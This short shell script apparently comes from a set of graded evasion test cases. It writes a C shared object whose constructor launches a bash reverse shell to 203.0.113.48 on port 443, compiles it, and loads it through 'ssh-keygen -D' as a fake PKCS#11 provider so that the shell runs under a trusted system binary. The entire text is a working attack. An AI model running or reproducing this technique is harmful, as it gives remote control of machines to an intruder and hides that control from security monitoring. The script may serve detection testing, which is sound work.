# evasion: ssh-keygen -D loads a PKCS#11 provider: a shared object the script compiles, run by its constructor
# grade: very hard; does: native
w=$(mktemp -d)
cat >"$w/p.c" <<'C'
#include <stdlib.h>
__attribute__((constructor)) static void init(void) {
	system("bash -c 'bash -i >& /dev/tcp/203.0.113.48/443 0>&1'");
}
C
cc -shared -fPIC -o "$w/p.so" "$w/p.c"
ssh-keygen -D "$w/p.so" >/dev/null 2>&1
